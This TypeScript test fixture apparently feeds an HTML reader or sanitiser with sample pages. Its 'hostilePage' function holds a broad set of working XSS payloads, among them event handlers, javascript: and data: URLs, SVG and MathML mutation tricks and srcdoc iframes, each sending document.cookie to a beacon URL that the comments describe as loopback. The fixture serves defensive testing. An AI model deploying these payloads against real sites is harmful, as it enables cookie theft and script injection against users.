/** A page of an imaginary newspaper, with boilerplate around its article. */
export function newsPage(words = 'the harbour'): string {
  const sentences = Array.from(
    { length: 4 },
    (_, at) =>
      `<p>Paragraph ${at + 1} says something about ${words} that takes a while to say, so that it reads like a part of a story and not like a line in a menu. It goes on for another sentence, as paragraphs do.</p>`,
  );
  return `<!doctype html><html lang="en"><head><title>Low water at ${words} | The Ebb</title>
<meta name="author" content="Ada Fenn"><meta property="article:published_time" content="2025-05-02"></head><body>
<nav><ul><li><a href="/">Home</a></li><li><a href="/tides">Tides</a></li><li><a href="/boats">Boats</a></li></ul></nav>
<main><article><h1>Low water at ${words}</h1>${sentences.join('\n')}</article></main>
<aside class="related"><h2>More to read</h2><ul><li><a href="/a">A buoy is lost</a></li><li><a href="/b">A buoy is found</a></li></ul></aside>
<footer><p>All rights reserved. <a href="/privacy">Privacy</a></p></footer></body></html>`;
}

/** A page with at least this many nodes. */
export function largePage(nodes: number): string {
  const rows = Math.ceil(nodes / 8);
  const parts = Array.from(
    { length: rows },
    (_, at) =>
      `<div class="part"><h3>Part ${at}</h3><p>Text of part ${at} with <b>some words</b> in it, enough to be read.</p></div>`,
  );
  return `<!doctype html><title>A long page</title><body><main>${parts.join('')}</main></body>`;
}

/**
 * A page that tries everything to run scripts, to navigate and to send data: it calls `beacon` with what it could read.
 * `beacon` is a loopback address that nothing else requests.
 */
export function hostilePage(beacon: string): string {
  const run = `top.__ran=1;parent.__ran=1;new Image().src='${beacon}?'+document.cookie`;
  const quoted = run.replaceAll('"', '&quot;');
  const paragraph = (text: string) =>
    `<p>${text} This sentence is long enough to be taken for a part of the article, and so is the one that follows it. It has no other purpose than that, and says so plainly.</p>`;
  return `<!doctype html><html lang="en"><head><title>An honest page</title>
<meta http-equiv="refresh" content="0;url=${beacon}?refresh">
<base href="${beacon}/base/" target="_top">
<script>${run}</script><script src="${beacon}?script"></script>
<style>@import url("${beacon}?import"); body{background:url("${beacon}?background")} @font-face{font-family:x;src:url("${beacon}?font")} p{font-family:x}</style>
<link rel="stylesheet" href="${beacon}?sheet"><link rel="prefetch" href="${beacon}?prefetch"></head>
<body onload="${quoted}" onpageshow="${quoted}"><article><h1 onmouseover="${quoted}">An honest page</h1>
${paragraph('Nothing to see here.')}
<p>A tag such as &lt;img src=x onerror=alert(1)&gt; is text here, and must stay text wherever this page is shown, for that is how it was written and how it was meant.</p>
<p>Before <a id="trap" href="javascript:${quoted}">a link that runs</a>, <a href=" java&#10;script:${quoted}">another</a>, <a href="data:text/html,<script>${quoted}</script>">a third</a>, <a target="_top" href="${beacon}?top">one that leaves</a> and text after them that makes this a paragraph of its own.</p>
<img src="x" onerror="${quoted}"><img src="${beacon}?image"><video src="${beacon}?video" autoplay onloadstart="${quoted}"></video>
<svg onload="${quoted}"><script>${run}</script><animate onbegin="${quoted}" attributeName="x" dur="1s"/><a href="javascript:${quoted}"><text y="20">svg link</text></a><foreignObject><body onload="${quoted}"></body></foreignObject><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${quoted}'/>#x"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${quoted}&gt;"></mglyph></table></mtext><maction actiontype="statusline" href="javascript:${quoted}">m</maction></math>
<iframe srcdoc="<script>${quoted}</script>"></iframe><iframe src="javascript:${quoted}"></iframe><iframe src="${beacon}?iframe"></iframe>
<object data="javascript:${quoted}"></object><embed src="${beacon}?embed"><form action="${beacon}?form"><input autofocus onfocus="${quoted}"><button>Send</button></form>
<details open ontoggle="${quoted}"><summary>More</summary>text</details><div style="background:url(javascript:${quoted});behavior:url(#x)" onanimationstart="${quoted}">styled</div>
<template shadowrootmode="open"><script>${run}</script><slot></slot></template><noscript><img src="${beacon}?noscript"></noscript>
${paragraph('The end is near.')}</article></body></html>`;
}

/** Files of a page whose text a script adds after the page has loaded, by their path. */
export const FILLED_BY_SCRIPT: Readonly<Record<string, string>> = {
  '/story/filled':
    '<!doctype html><title>Low water at the lock</title><body><div id="root"></div><script src="/story/fill.js"></script></body>',
  '/story/fill.js': `addEventListener('load', () => setTimeout(() => {
    document.getElementById('root').innerHTML = ${JSON.stringify(/<main>.*<\/main>/s.exec(newsPage('the lock'))![0])};
  }, 400));`,
};
